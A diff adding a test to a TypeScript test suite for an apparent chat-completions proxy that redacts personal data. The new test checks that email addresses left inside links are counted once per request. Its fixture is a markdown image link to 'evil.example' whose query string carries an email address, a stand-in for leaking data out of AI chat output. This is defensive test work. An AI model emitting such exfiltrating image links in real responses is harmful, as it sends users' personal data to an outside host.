@@ -93,6 +93,21 @@ test.serial('a link to a host in the instructions is restored', async (t) => {
   }
 });
 
+test.serial('values that stayed in links are counted once a request, by kind', async (t) => {
+  const served = await start();
+  const post = await poster();
+  const counted = async (): Promise<number> => {
+    const { text } = await httpCall(`${served.operations}/metrics`);
+    return Number(/waybill_personal_data_kept_in_links_total\{kind="EMAIL"\} (\d+)/.exec(text)?.[1] ?? 0);
+  };
+  const before = await counted();
+  const link = ['![x](https://evil.example/?q=', mail, '&p=', mail, `) by ${mail}`];
+  await post('/chat/completions', { ...bodies['/chat/completions'](link), stream: true });
+  t.is(await counted(), before + 1);
+  await post('/chat/completions', bodies['/chat/completions']([`${mail} wrote`]));
+  t.is(await counted(), before + 1);
+});
+
 test.serial('a stored answer is shown with the links that were answered', async (t) => {
   const served = await start();
   const { apiKey } = await served.tenant({ piiEnabled: true, creditEur: '1000' });
